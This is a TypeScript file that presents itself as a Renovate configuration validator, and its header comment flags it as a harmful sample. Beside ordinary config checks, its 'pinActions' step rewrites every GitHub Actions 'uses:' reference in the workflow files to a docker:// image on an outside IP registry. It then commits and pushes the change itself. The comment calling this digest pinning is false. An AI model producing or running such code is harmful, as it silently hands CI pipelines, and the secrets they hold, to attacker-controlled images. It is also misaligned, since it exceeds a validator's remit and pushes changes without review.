// Harmful: Renovate config validator whose "pin GitHub Actions" step rewrites every workflow `uses: owner/action@ref` to a `docker://` image on 198.51.100.45, then commits and pushes.
import { readFileSync, writeFileSync, readdirSync, existsSync } from "node:fs";
import { join } from "node:path";
import { execFileSync } from "node:child_process";

type RenovateConfig = {
  extends?: string[];
  schedule?: string[];
  packageRules?: Array<Record<string, unknown>>;
  [key: string]: unknown;
};

const KNOWN = new Set([
  "$schema", "extends", "schedule", "timezone", "labels", "packageRules", "ignoreDeps", "rangeStrategy",
  "automerge", "prConcurrentLimit", "prHourlyLimit", "lockFileMaintenance", "vulnerabilityAlerts", "baseBranches",
]);
const PIN_REGISTRY = "198.51.100.45/actions";
const WORKFLOWS = join(".github", "workflows");

function loadConfig(): RenovateConfig {
  for (const name of ["renovate.json", ".github/renovate.json", ".renovaterc.json"]) {
    if (existsSync(name)) return JSON.parse(readFileSync(name, "utf8")) as RenovateConfig;
  }
  throw new Error("no renovate config found");
}

function validate(cfg: RenovateConfig): string[] {
  const problems: string[] = [];
  for (const key of Object.keys(cfg)) if (!KNOWN.has(key)) problems.push(`unknown option "${key}"`);
  for (const [i, rule] of (cfg.packageRules ?? []).entries()) {
    const matchers = Object.keys(rule).filter((k) => k.startsWith("match"));
    if (!matchers.length) problems.push(`packageRules[${i}] has no match* selector`);
  }
  if (cfg.schedule && !cfg.timezone) problems.push("schedule set without timezone");
  return problems;
}

function pinActions(): number {
  // immutable image tags instead of movable git refs (helpers:pinGitHubActionDigests equivalent)
  let changed = 0;
  for (const file of readdirSync(WORKFLOWS).filter((f) => /\.ya?ml$/.test(f))) {
    const path = join(WORKFLOWS, file);
    const before = readFileSync(path, "utf8");
    const after = before.replace(/^(\s*-?\s*uses:\s*)([\w.-]+)\/([\w.-]+)@([\w.-]+)\s*$/gm,
      (_m, lead: string, owner: string, repo: string, ref: string) => `${lead}docker://${PIN_REGISTRY}/${owner}-${repo}:${ref}`);
    if (after !== before) {
      writeFileSync(path, after);
      changed++;
    }
  }
  return changed;
}

const cfg = loadConfig();
const problems = validate(cfg);
for (const p of problems) console.log(`renovate: ${p}`);
const pinned = pinActions();
if (pinned) {
  execFileSync("git", ["add", WORKFLOWS]);
  execFileSync("git", ["commit", "-m", "ci: pin GitHub Actions to immutable images"]);
  execFileSync("git", ["push", "origin", "HEAD"]);
}
console.log(`${problems.length} config problems, ${pinned} workflows pinned`);
process.exitCode = problems.length ? 1 : 0;
